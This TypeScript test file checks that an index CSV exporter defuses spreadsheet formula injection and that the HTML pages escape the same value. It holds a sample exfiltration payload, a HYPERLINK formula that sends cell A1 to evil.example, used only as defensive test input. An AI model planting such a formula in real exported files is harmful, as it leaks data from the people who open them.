import { describe, expect, it } from 'vitest';
import { csvCell, startsAsFormula } from '../../../main/core/index/csv-cell.ts';
import { renderIndexFiles } from '../../../main/core/index/render-files.ts';
import { craftedDocument } from './support/crafted-season.ts';

const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"open")';
const dec = new TextDecoder();

/** The cells of one CSV line, read as RFC 4180 says (quoted cells unquoted, doubled quotes undoubled). */
function cells(line: string): string[] {
  const out: string[] = [];
  for (const m of line.matchAll(/("(?:[^"]|"")*"|[^,]*)(,|$)/g)) {
    const raw = m[1]!;
    out.push(raw.startsWith('"') ? raw.slice(1, -1).replace(/""/g, '"') : raw);
    if (m[2] === '') break;
  }
  return out;
}

describe('Index CSV cells are inert in a spreadsheet (OWASP CSV injection)', () => {
  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx'])(
    '%j starts as a formula: written quoted behind a single quote',
    (text) => {
      expect(startsAsFormula(text)).toBe(true);
      expect(csvCell(text)).toBe(`"'${text}"`);
    },
  );

  it('quotes inside a formula-like cell are doubled (RFC 4180), the single quote leads', () => {
    expect(csvCell(FORMULA)).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""open"")"`);
  });

  it('ordinary text and the counts are written as before: no quote added to a name or a number', () => {
    expect(csvCell('Ada')).toBe('Ada');
    expect(csvCell('a, b')).toBe('"a, b"');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell(0)).toBe('0');
    expect(csvCell(40)).toBe('40');
  });

  it('an agent named =HYPERLINK(...) never reaches tables/*.csv as a live formula; the HTML pages keep it escaped', () => {
    const doc = craftedDocument({ names: { 'p-ada': FORMULA, 'ref-1': '@agent' } });
    const files = renderIndexFiles(doc, { reportJson: new Map(), prompts: new Map() });
    const csvFiles = [...files.keys()].filter((path) => path.startsWith('tables/'));
    expect(csvFiles.length).toBeGreaterThan(0);
    for (const path of csvFiles)
      for (const line of dec
        .decode(files.get(path))
        .split('\r\n')
        .filter((l) => l !== ''))
        for (const cell of cells(line)) expect(startsAsFormula(cell), `${path}: ${cell}`).toBe(false);
    const community = dec.decode(files.get('tables/conformite-community.csv'));
    expect(cells(community.split('\r\n').find((l) => l.includes('p-ada'))!)[5]).toBe(`'${FORMULA}`);
    const reference = dec.decode(files.get('tables/conformite-reference.csv'));
    expect(cells(reference.split('\r\n').find((l) => l.includes('ref-1'))!)[5]).toBe(`'@agent`);
    for (const page of ['index.html', 'index.en.html', 'reports/conformite/p-ada.html']) {
      const html = dec.decode(files.get(page));
      expect(html, page).not.toContain(FORMULA);
      expect(html, page).toContain('=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;open&quot;)');
    }
  });
});
